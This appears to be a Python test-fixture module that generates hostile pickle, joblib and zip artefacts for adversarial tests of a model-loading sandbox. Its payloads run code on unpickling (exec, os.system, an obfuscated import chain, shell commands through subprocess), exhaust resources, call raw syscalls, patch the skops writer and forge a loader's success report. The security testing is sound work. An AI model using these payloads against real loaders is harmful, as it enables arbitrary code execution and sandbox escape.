"""Hostile artefacts for the adversarial tests: each runs code the moment it is unpickled.

Every payload here is signed with a valid identity in the tests, so the signature gate passes
and the sandbox (or the serving side's validation) is what is tested.
"""

from __future__ import annotations

import builtins
import importlib
import io
import operator
import pickle
import zipfile

import joblib
import numpy as np
from sklearn.svm import SVC


class _Reduce:
    """Pickles as `fn(*args)`; `fn` may itself be a _Reduce (a call chain)."""

    def __init__(self, fn: object, *args: object) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple:
        return self.fn, self.args

    def __call__(self) -> None:  # pickle insists that the callable of a REDUCE be callable
        raise NotImplementedError


def run_python(code: str) -> bytes:
    """A pickle whose unpickling executes `code` with builtins.exec."""
    return pickle.dumps(_Reduce(builtins.exec, code, {}), protocol=4)


def os_system(command: str) -> bytes:
    import os

    return pickle.dumps(_Reduce(os.system, command), protocol=4)


TRACE_MESSAGE = "TRACE: this artefact was unpickled"
# Unpickling raises an error carrying TRACE_MESSAGE, which the loader reports: the one trace
# of unpickling that survives the sandbox (which blocks file writes and sockets).
TRACE = run_python(f"raise RuntimeError({TRACE_MESSAGE!r})")


def _fitted_svc() -> SVC:
    rng = np.random.default_rng(0)
    x = rng.normal(size=(20, 3))
    return SVC().fit(x, (x[:, 0] > 0).astype(int))


def _joblib(obj: object, **kwargs: object) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, **kwargs)
    return buffer.getvalue()


def _estimator_carrying(payload: object) -> SVC:
    model = _fitted_svc()
    model.payload_ = payload  # type: ignore[attr-defined]
    return model


def import_chain(command: str) -> bytes:
    """importlib.import_module + getattr: no `os` global appears in the pickle."""
    system = _Reduce(getattr, _Reduce(importlib.import_module, "o" + "s"), "sys" + "tem")
    return pickle.dumps(_Reduce(system, command), protocol=4)


def object_array(command: str) -> bytes:
    """A joblib file whose object-dtype array carries a nested pickle that spawns a process."""
    import subprocess

    inner = np.array([_Reduce(subprocess.Popen, ["sh", "-c", command])], dtype=object)
    return _joblib(_estimator_carrying(inner))


def compressed(method: str, command: str) -> bytes:
    import subprocess

    return _joblib(_estimator_carrying(_Reduce(subprocess.Popen, ["sh", "-c", command])), compress=(method, 3))


def torch_style_zip(command: str) -> bytes:
    """A PyTorch-style zip container with the payload in data.pkl."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", os_system(command))
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def billion_laughs(levels: int = 40) -> bytes:
    """Memo references make a tiny pickle whose object graph is 10**levels leaves wide."""
    laugh: list = ["lol"]
    for _ in range(levels):
        laugh = [laugh] * 10
    return _joblib(_estimator_carrying(laugh))


def deep_nesting(depth: int = 200_000) -> bytes:
    """An estimator holding a list nested `depth` levels deep, written opcode by opcode."""
    marker = "NESTED-LIST-GOES-HERE"
    model = _fitted_svc()
    attach = _Reduce(setattr, model, "payload_", marker)
    data = pickle.dumps(_Reduce(operator.itemgetter(0), (model, attach)), protocol=2)
    encoded = marker.encode()
    opcode = b"X" + len(encoded).to_bytes(4, "little") + encoded  # BINUNICODE
    assert data.count(opcode) == 1
    # EMPTY_LIST x depth, then APPEND x (depth - 1): each list goes into the one below it.
    return data.replace(opcode, b"]" * depth + b"a" * (depth - 1))


class _PatchedModule:
    """Pickles as import_module(name) followed by a BUILD opcode that overwrites its attributes."""

    def __init__(self, name: str, attributes: dict) -> None:
        self.name, self.attributes = name, attributes

    def __reduce__(self) -> tuple:
        return importlib.import_module, (self.name,), self.attributes


def patch_skops_writer() -> bytes:
    """BUILD on the skops.io module swaps its writers for pickle's; the top object is an estimator."""
    patched = _PatchedModule("skops.io", {"dump": pickle.dump, "dumps": pickle.dumps})
    return pickle.dumps(_Reduce(operator.itemgetter(1), (patched, _fitted_svc())), protocol=4)


def syscall(number: int, name: str) -> bytes:
    """Calls a raw syscall through ctypes and reports its result in the error."""
    return run_python(
        "import ctypes, os\n"
        f"r = ctypes.CDLL(None, use_errno=True).syscall({number}, 0, 0, 0, 0, 0, 0)\n"
        f"raise OSError(ctypes.get_errno(), '{name} returned ' + str(r))"
    )


def forged_result(skops_bytes: bytes) -> bytes:
    """Writes its own bytes as the conversion result and reports success to the loader."""
    return run_python(
        "import gc, json, os\n"
        "from multiprocessing.connection import Connection\n"
        f"data = {skops_bytes!r}\n"
        "for fd in [o.fd for o in gc.get_objects() if type(o).__name__ == 'PassedFd']:\n"
        "    try:\n"
        "        os.pwrite(fd, data, 0)\n"  # the result memfd takes it; the sealed artefact does not
        "    except OSError:\n"
        "        pass\n"
        "for c in [o for o in gc.get_objects() if isinstance(o, Connection) and o.writable]:\n"
        "    try:\n"
        "        c.send_bytes(json.dumps({'ok': True, 'untrusted_types': [], 'size': len(data)}).encode())\n"
        "    except OSError:\n"
        "        pass\n"
        "os._exit(0)\n"
    )
